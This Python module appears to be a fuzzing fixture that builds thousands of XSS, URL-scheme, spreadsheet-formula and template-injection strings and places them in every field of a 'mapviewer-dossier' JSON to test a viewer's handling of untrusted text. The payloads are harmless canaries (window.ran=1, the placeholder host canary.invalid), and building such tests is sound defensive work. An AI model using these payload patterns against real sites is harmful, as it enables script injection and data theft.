"""Texts that would run, navigate or ask for something if anything took them for more than text: tags × attributes × encodings × contexts."""

from __future__ import annotations

import base64
import html
import itertools
import urllib.parse
from collections.abc import Callable
from typing import Any

HOST = "canary.invalid"
RUN = "window.ran=1"

TAGS = (
    "img", "svg", "video", "audio", "iframe", "object", "embed", "input", "body", "details", "marquee", "a", "math", "style",
    "link", "meta", "base", "form", "button", "select", "textarea", "template", "script", "image", "portal", "dialog",
)  # fmt: skip
HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus autofocus x", "ontoggle open x", "onbegin", "onanimationstart",
    "onpointerenter", "ontransitionend", "onbeforeinput", "onpageshow",
)  # fmt: skip
ENCODINGS: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    html.escape,
    lambda text: html.escape(html.escape(text)),
    urllib.parse.quote,
    lambda text: "".join(f"&#{ord(c)};" for c in text),
    lambda text: "".join(f"&#x{ord(c):06x}" for c in text),
    lambda text: "".join(f"\\u{ord(c):04x}" for c in text),
    lambda text: "".join(f"\\x{ord(c):02x}" for c in text if ord(c) < 256),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t\n"),
    lambda text: "\0".join(text[n : n + 4] for n in range(0, len(text), 4)),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: "\u202e" + text + "\u2066",
    lambda text: "\ufeff" + text + "\u2028" + text,
)
CONTEXTS = (
    "{}", '">{}', "'>{}", "-->{}", "]]>{}", "</script>{}", "</title>{}", "</style>{}", "</textarea>{}", "`;{}", "${{{}}}", "*/{}//",
    "</svg>{}", "</text>{}", "<![CDATA[{}]]>", "<!--{}", "\\u003c/script\\u003e{}", "%3C/script%3E{}", "{{{{{}}}}}", "<%={}%>",
)  # fmt: skip
SCRIPTS = (
    f"{RUN}", f"';{RUN};'", f'";{RUN};"', f"`;{RUN};`", f"${{{RUN}}}", f"\\';{RUN}//", f"\u2028{RUN}\u2029", f"</script><script>{RUN}</script>",
    f"<script>{RUN}</script>", f"<script src=//{HOST}/x.js></script>", f"<ScRiPt\n>{RUN}</sCrIpT\t>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<iframe srcdoc='<script>parent.ran=1</script>'>", "<iframe src='javascript:parent.ran=1'>", f"<object data='data:text/html,<script>{RUN}</script>'>",
    f"<meta http-equiv=refresh content='0;url=http://{HOST}/'>", f"<base href=http://{HOST}/>", f"<link rel=stylesheet href=http://{HOST}/a.css>",
    f"<link rel=preconnect href=http://{HOST}>", f"<link rel=dns-prefetch href=//{HOST}>", f"<form action=http://{HOST}/><button>x", f"<img src=http://{HOST}/i.png>",
    f"<style>@import 'http://{HOST}/a.css';body{{background:url(http://{HOST}/b)}}</style>", f"<div style='background:url(//{HOST}/c)'>",
    f"red;background:url(//{HOST}/d)", "expression(window.ran=1)", f"}} body {{ background: url(//{HOST}/e) }}", "\x00\x08\x0b<script>", "=cmd|' /C calc'!A0", "@SUM(1)",
    "{{constructor.constructor('window.ran=1')()}}", "<%= 7*7 %>", "#{7*7}", "%s%n%x{0}{0.__class__}", "__proto__", "constructor", "toString", "</", "<", "&", "<!", "<?x?>",
)  # fmt: skip
URLS = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}", f" javascript:{RUN}", f"javascript://%0a{RUN}", f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:text/html;base64," + base64.b64encode(f"<script>{RUN}</script>".encode()).decode(), "file:///etc/passwd",
    "mapviewer://app/", "blob:null/x", f"view-source:http://{HOST}", "about:blank", "chrome://gpu", "qrc:/x", f"ftp://{HOST}/", f"\\\\{HOST}\\share", "mailto:a@b?attach=/etc/passwd",
    f"https://user:pw@{HOST}/", f"https://{HOST}/\" onclick=\"{RUN}", f"https://{HOST}/</a><script>{RUN}</script>", "https://", "http:///", f"//{HOST}/", "https://[x", "https://[]/",
)  # fmt: skip


def payloads() -> list[str]:
    """Some thousands, each once, in the same order every time."""
    base = [f"<{tag} src=x href=x {handler}={RUN}>" for tag, handler in itertools.product(TAGS, HANDLERS)]
    found = dict.fromkeys((*SCRIPTS, *URLS))
    found |= dict.fromkeys(base)
    # Every encoding of every tag, every context of every script, and both of some.
    found |= dict.fromkeys(encode(text) for encode in ENCODINGS for text in base[::5])
    found |= dict.fromkeys(encode(text) for encode in ENCODINGS for text in (*SCRIPTS, *URLS))
    found |= dict.fromkeys(context.format(text) for context in CONTEXTS for text in (*SCRIPTS, *base[::9]))
    found |= dict.fromkeys(
        context.format(encode(f"<img src=x onerror={RUN}>")) for context in CONTEXTS for encode in ENCODINGS
    )
    found["<b>" * 3_000 + f"<img src=x onerror={RUN}>"] = None
    found["A" * 60_000 + f"<script>{RUN}</script>"] = None
    return [text for text in found if text.strip()]


def dossier(texts: list[str], *, each: int = 12) -> dict[str, Any]:
    """A dossier with these texts in every field that takes any, `each` in every event, all of them somewhere."""
    events, sources, places, actors, categories = [], [], [], [], []
    for n in range(0, len(texts), each):
        part = [texts[(n + k) % len(texts)] for k in range(each)]
        url = URLS[n % len(URLS)]
        row = n // each
        sources.append(
            {
                "id": f"s{row}",
                "title": part[0],
                "publisher": part[1],
                "author": part[2],
                "url": url,
                "archived_url": url,
            }
        )
        places.append(
            {
                "id": f"p{row}",
                "name": part[3],
                "lat": 30 + row % 40 * 0.7,
                "lon": 10 + row // 40 * 2.1,
                "country": "SY",
            }
        )
        actors.append({"id": f"a{row}", "name": part[4][:400], "role": part[5], "affiliation": part[6]})
        categories.append({"id": f"c{row}", "label": part[7]})
        events.append({
            "id": f"e{row}", "title": part[8], "summary": part[9] + url, "category": f"c{row}", "place": f"p{row}", "place_note": part[10],
            "when": f"2025-07-{1 + row % 28:02d}", "when_note": part[11], "actors": [{"actor": f"a{row}", "role": part[0]}, part[1][:400]],
            "tags": [text[:300] for text in part[2:6]], "citations": [{"source": f"s{row}", "locator": part[6], "quote": part[7]}],
            "claims": [{"field": "summary", "value": part[8], "by": part[9][:400]}], "media": [{"path": part[10], "caption": part[11], "credit": part[0]}],
            "private_note": part[1], "related": [{"event": "e0", "relation": part[2][:100]}], "extra": {part[3][:100]: part[4]},
        })  # fmt: skip
    return {
        "format": "mapviewer-dossier", "version": 1, "title": texts[0], "description": texts[1], "events": events,
        "sources": sources, "places": places, "actors": actors, "categories": categories,
    }  # fmt: skip
